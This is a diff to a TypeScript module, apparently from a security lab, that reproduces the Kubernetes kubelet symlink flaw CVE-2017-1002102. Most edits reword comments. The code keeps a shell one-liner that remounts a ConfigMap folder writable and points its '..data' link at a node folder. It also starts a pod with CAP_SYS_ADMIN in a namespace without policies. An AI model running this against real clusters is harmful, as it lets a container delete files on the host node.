@@ -1,13 +1,14 @@
 /**
- * What root that may mount does with a folder that the kubelet writes to as root of the node: it makes it writable and leads
- * the link `..data` out of it. At the next change the kubelet removes what the link led to (CVE-2017-1002102).
+ * An attack by root in a container that may mount. The kubelet, as root of the node, writes to the folder of a mounted
+ * ConfigMap. The attacker remounts that folder writable and points its link `..data` elsewhere; at the ConfigMap's next
+ * change the kubelet removes what the link points to (CVE-2017-1002102).
  */
 import { mkdir, mkdtemp, readdir, rm, writeFile } from "node:fs/promises";
 import { kubectl } from "../lab/lab.ts";
 
-/** A folder of the node that nobody but the node should touch. */
+/** A folder of the node that no container should reach. */
 export interface NodeFolder {
-  /** As a relative link that leads there from wherever the kubelet keeps a volume. */
+  /** A relative path to it from any folder in which the kubelet keeps a volume. */
   readonly link: string;
   /** What is in it. */
   files(): Promise<string[]>;
@@ -25,11 +26,11 @@ export async function nodeFolder(): Promise<NodeFolder> {
   };
 }
 
-/** As root inside: plants the link in a mounted folder, and beside it what the kubelet looks for before it removes. */
+/** Shell for root inside: plants the link in a mounted folder, and the file that the kubelet looks for first. */
 export const plant = (mount: string, { link }: NodeFolder) =>
   `mount -o remount,bind,rw ${mount} && touch ${mount}/file && ln -sfn ${link} ${mount}/..data && readlink ${mount}/..data`;
 
-/** A pod that mounts a ConfigMap and may mount: what the policies refuse, for a namespace that has none. */
+/** A pod with a ConfigMap and CAP_SYS_ADMIN. The policies refuse it, so its namespace has none. */
 export async function startCareless(namespace: string, image: string): Promise<void> {
   const items = [
     { apiVersion: "v1", kind: "Namespace", metadata: { name: namespace } },
